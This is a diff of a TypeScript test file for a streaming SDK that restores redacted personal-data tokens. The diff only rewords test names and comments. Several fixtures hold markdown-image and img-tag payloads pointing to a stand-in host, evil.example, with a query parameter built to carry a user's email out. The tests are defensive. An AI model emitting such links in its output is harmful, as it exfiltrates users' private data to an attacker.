@@ -1,4 +1,4 @@
-/** Plain text that is in part an event stream or JSON, and may be shown as it stands. */
+/** Plain text that is partly an event stream or JSON, and may be displayed raw. */
 import { describe, expect, test } from 'vitest';
 import { restoreAnswerText } from '../../../sdk/streams.ts';
 import { restoreStream, tokenMap } from './wire-fixtures.ts';
@@ -15,7 +15,7 @@ function restored(text: string): string {
   return [...found][0] as string;
 }
 
-describe('an address that reaches over the strings of JSON keeps its tokens', () => {
+describe('a URL that spans strings of JSON keeps its tokens', () => {
   test.each([
     '{"a":"![x](https://evil.example/?q=","b":"[EMAIL-1])"}',
     '{"a":"![x](https://evil.example/?q=","b":"[EMAIL-1])"}\n',
@@ -36,7 +36,7 @@ describe('an address that reaches over the strings of JSON keeps its tokens', ()
     expect(restoreAnswerText('text', text, map)).toBe(text);
   });
 
-  test('nor does an event do that goes in behind a growing text', () => {
+  test('a URL keeps its tokens if an event is inserted after a cumulative text', () => {
     const grown = ['Hello', 'Hello dear', 'Hello dear friend [EMAIL-1]', 'Hello dear friend [EMAIL-1] you [EMA'];
     const lines = grown.map(
       (t) => `${JSON.stringify({ x: t.endsWith('A') ? "<img src='https://evil.example/?q=" : '', t })}\n`,
@@ -45,19 +45,19 @@ describe('an address that reaches over the strings of JSON keeps its tokens', ()
     expect(out.slice(out.indexOf('<img'))).not.toContain('a@b.example');
   });
 
-  test('nor does an event that is no text hide where one begins', () => {
+  test('a URL keeps its tokens if it begins in an event that is not UTF-8', () => {
     const lines = Buffer.from('{"x":"\xff<img src=\'https://evil.example/?q="}\n{"r":"[EMAIL-1]\'>"}\n', 'latin1');
     expect(restoreStream('text', map, lines)).not.toContain('a@b.example');
   });
 
-  test('nor does what is held when an address begins in another text', () => {
+  test('a URL keeps its tokens if it begins in another text while some is held back', () => {
     const event = (delta: object) => `data: ${JSON.stringify({ choices: [{ index: 0, delta }] })}\n\n`;
     const image = { reasoning: "<img src='https://evil.example/?q=" };
     const text = `${event({ content: 'x [[EMAIL-1]' })}${event(image)}data: [DONE]\n\n${event({ reasoning: "'>" })}`;
     expect(restored(text)).not.toContain('a@b.example');
   });
 
-  test('a link that is cut keeps none behind it', () => {
+  test('a truncated link does not affect tokens after it', () => {
     const said = 'See [Docs](https://example.com/guide). Ask [EMAIL-1] there.';
     for (let cut = 1; cut < said.length; cut++) {
       const pieces = [said.slice(0, cut), said.slice(cut)];
@@ -66,7 +66,7 @@ describe('an address that reaches over the strings of JSON keeps its tokens', ()
     }
   });
 
-  test('behind it they are restored again', () => {
+  test('tokens after the URL are restored', () => {
     const text = '{"a":"![x](https://evil.example/?q=","b":"x)"}\n{"c":"[EMAIL-1]"}\n';
     expect(restored(text)).toBe(text.replaceAll('[EMAIL-1]', 'a@b.example'));
   });
@@ -86,8 +86,8 @@ test.each([
 });
 
 test.each([
-  ['behind JSON', '{"n":"[NAME-1]"}\n\nThat is [NAME-1].\n', '{"n":"O\\"Hara"}\n\nThat is O"Hara.\n'],
-  ['behind lines with a name', '12:"Hi [NAME-1]"\nby [NAME-1]\n', '12:"Hi O\\"Hara"\nby O"Hara\n'],
+  ['after JSON', '{"n":"[NAME-1]"}\n\nThat is [NAME-1].\n', '{"n":"O\\"Hara"}\n\nThat is O"Hara.\n'],
+  ['after lines with a prefix', '12:"Hi [NAME-1]"\nby [NAME-1]\n', '12:"Hi O\\"Hara"\nby O"Hara\n'],
   ['between events', 'data: {"n":"[NAME-1]"}\n\nby [NAME-1]\n\n', 'data: {"n":"O\\"Hara"}\n\nby O"Hara\n\n'],
   [
     'of JSON over lines',
@@ -108,38 +108,38 @@ test.each([
   'retry: 3000\n\n',
   ':\n\n',
   '\n',
-])('%j is no prose between events', (ping) => {
+])('%j is not prose between events', (ping) => {
   const text = `data: {"content":"Hi [EMA"}\n\n${ping}data: {"content":"IL-1]"}\n\n`;
-  // A client must not resume behind an id that stands inside a token.
+  // A client must not resume after an id inside a token.
   const sent = text.replace(/^id: .*\n/m, '');
   expect(restored(text)).toBe(sent.replace('[EMA', '').replace('IL-1]', 'a@b.example'));
 });
 
-test.each(['', '\n'])('a text goes on within a last line that ends with %j', (end) => {
+test.each(['', '\n'])('a text continues within a last line that ends with %j', (end) => {
   const pieces = (...texts: string[]) =>
     JSON.stringify({ candidates: [{ content: { parts: texts.map((text) => ({ text })), role: 'model' }, index: 0 }] });
   const first = `${pieces('z', 'q')}\n`;
   for (const kind of ['ndjson', 'text'] as const) {
     const lines = new TextEncoder().encode(first + pieces('Hi [EMA', 'IL-1] x') + end);
     expect(restoreStream(kind, map, lines)).toBe(first + pieces('Hi ', 'a@b.example x') + end);
-    // Nothing follows that it could be a piece of.
+    // Nothing follows, so it cannot be a piece.
     const cut = first + pieces('Hi', '[EMA') + end;
     expect(restoreStream(kind, map, new TextEncoder().encode(cut)).split('\n')[1], kind).toBe(
       end === '' ? pieces('Hi', '[EMA') : pieces('Hi', ''),
     );
   }
-  // The last line is like the one before in all but its text.
+  // The last line differs from the previous one only in its text.
   const lines = ['Hi [EMA', 'IL-1] [EMA'].map((response) => JSON.stringify({ response }));
   const out = restoreStream('ndjson', map, new TextEncoder().encode(lines.join('\n')));
   expect(out).toBe('{"response":"Hi "}\n{"response":"a@b.example [EMA"}');
 });
 
-test('a last line without an end stays one line, and what is put in behind it is another', () => {
+test('a last line without an end stays one line, and text inserted after it is another', () => {
   expect(restored('{"q":"AT&"}')).toBe('{"q":"AT&"}');
   expect(restored('{"q":"AT&"}\n{"r":"["}')).toBe('{"q":"AT"}\n{"r":"["}\n{"q":"&"}\n');
 });
 
-test('a line of blanks is no prose between lines', () => {
+test('a line of blanks is not prose between lines', () => {
   const text = '{"response":"Hi [EMA"}\n \n{"response":"IL-1]"}\n';
   expect(restored(text)).toBe(text.replace('[EMA', '').replace('IL-1]', 'a@b.example'));
 });
@@ -149,7 +149,7 @@ test.each([
   ['an object', '\uFEFF{"a":"[NAME-1]"}'],
   ['an object over lines', '\uFEFF{\n"a":"[NAME-1]"}'],
   ['a long object', `\uFEFF{"x":"${'x'.repeat(1_100)}","a":"[NAME-1]"}`],
-])('%s behind a byte order mark stays JSON', (_what, text) => {
+])('%s after a byte order mark stays JSON', (_what, text) => {
   expect(restored(text)).toBe(text.replace('[NAME-1]', 'O\\"Hara'));
 });
 
@@ -158,11 +158,11 @@ test.each([
   ['with settings first', 'retry: 3000\n\ndata: to [EM\n\ndata: AIL-1]\n\n'],
   ['with names', 'event: message\ndata: to [EM\n\nevent: message\ndata: AIL-1]\n\n'],
   ['with CR and LF', 'data: to [EM\r\n\r\ndata: AIL-1]\r\n\r\n'],
-])('an event stream %s is one', (_what, text) => {
+])('an event stream %s is detected', (_what, text) => {
   expect(restored(text)).toBe(text.replace('[EM', '').replace('AIL-1]', 'a@b.example'));
 });
 
-test('a long first line of an answer goes on in the next one', () => {
+test('a long first line of an answer continues in the next one', () => {
   const chunk = (content: string) => {
     const obfuscation = content.includes('[') ? 'p'.repeat(1200) : '';
     return `${JSON.stringify({ created: 1, choices: [{ index: 0, delta: { content } }], obfuscation })}\n`;
